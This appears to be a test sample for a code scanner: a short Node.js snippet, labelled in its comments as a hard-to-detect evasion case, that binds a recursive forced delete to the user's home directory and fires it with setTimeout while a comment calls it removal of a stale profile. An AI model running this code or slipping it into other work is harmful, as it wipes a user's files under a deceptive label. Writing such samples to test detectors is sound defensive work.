// evasion: an arrow partially applied with os.homedir() and run by setTimeout
// grade: hard; does: delete
// Schedules the removal of a stale profile.
const fs = require("fs");
const os = require("os");
const drop = (where, done) => fs.rm(where, { recursive: true, force: true }, done);
const later = drop.bind(undefined, os.homedir());
setTimeout(later, 50, () => {});
